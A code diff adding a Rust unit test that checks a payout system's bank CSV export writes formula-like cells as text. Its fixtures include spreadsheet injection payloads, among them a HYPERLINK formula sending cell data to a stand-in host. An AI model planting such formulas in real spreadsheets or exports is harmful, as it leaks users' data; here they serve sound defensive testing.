@@ -204,3 +204,60 @@ pub fn companion(run: &Run, file: &str, sha256: &str, hands: &Hands, head: (i64,
     out.push_str(&format!("Audit chain head: entry {}, SHA-256 {}\n", head.0, head.1));
     out
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::domain::payout::{BankDetails, Covered, HoldBack};
+
+    fn line(code: &str, name: &str, contract: &str, status: LineStatus) -> Line {
+        Line {
+            partner_id: format!("A-{code}"),
+            code: code.into(),
+            name: name.into(),
+            contract: Some(BankDetails { contract_number: contract.into(), iban: "KZ86125KZT5004100100".into() }),
+            amount: Money::kzt(25_000),
+            available: Money::kzt(25_000),
+            clawed: Money::ZERO,
+            status,
+            reason: (status == LineStatus::HeldBack).then_some(HoldBack::BelowMinimum),
+            bonuses: Covered { count: 1, value: Money::kzt(25_000), id_sum: 7 },
+            clawbacks: vec![],
+        }
+    }
+
+    /// A name or a contract number that a spreadsheet would run as a formula (a link that sends
+    /// the sheet's data away, a DDE call) is written as text; plain cells are kept as they are.
+    #[test]
+    fn the_bank_csv_writes_formulas_as_text() {
+        let payer = Payer { name: "Atlantys LLP".into(), iban: "KZ86125KZT5004100100".into(), bic: "KCJBKZKX".into() };
+        let lines = [
+            line("EVIL1", "=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")", "RP-1", LineStatus::Payable),
+            line("EVIL2", "@SUM(1)", "+77012345678", LineStatus::Payable),
+            line("EVIL3", "-2+3", "\tRP-3", LineStatus::HeldBack),
+            line("ASEL25", "Асель Нурланова", "RP-2026-0042", LineStatus::Payable),
+        ];
+        let created = DateTime::parse_from_rfc3339("2026-11-01T10:00:00+05:00").unwrap_or_else(|e| panic!("{e}"));
+        let run = Run {
+            id: 3,
+            month: "2026-10",
+            message_id: "REFDESK-2026-10-RUN3",
+            created,
+            due: NaiveDate::from_ymd_opt(2026, 11, 10).unwrap_or_default(),
+            payer: &payer,
+            lines: &lines,
+        };
+        let bytes = csv(&run).unwrap_or_else(|e| panic!("{e}"));
+        let mut reader = ::csv::Reader::from_reader(bytes.as_slice());
+        let rows: Vec<Vec<String>> =
+            reader.records().map(|r| r.map(|r| r.iter().map(str::to_string).collect()).unwrap_or_default()).collect();
+        let cells = |i: usize| (rows[i][5].as_str(), rows[i][6].as_str());
+        assert_eq!(cells(0), ("'=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")", "RP-1"));
+        assert_eq!(cells(1), ("'@SUM(1)", "'+77012345678"));
+        assert_eq!(cells(2), ("'-2+3", "'\tRP-3"));
+        assert_eq!(cells(3), ("Асель Нурланова", "RP-2026-0042"));
+        // Figures stay figures: the total row's amount is a number, not text.
+        assert_eq!(rows[4][8], "75000.00");
+        assert_eq!(rows.len(), 5);
+    }
+}
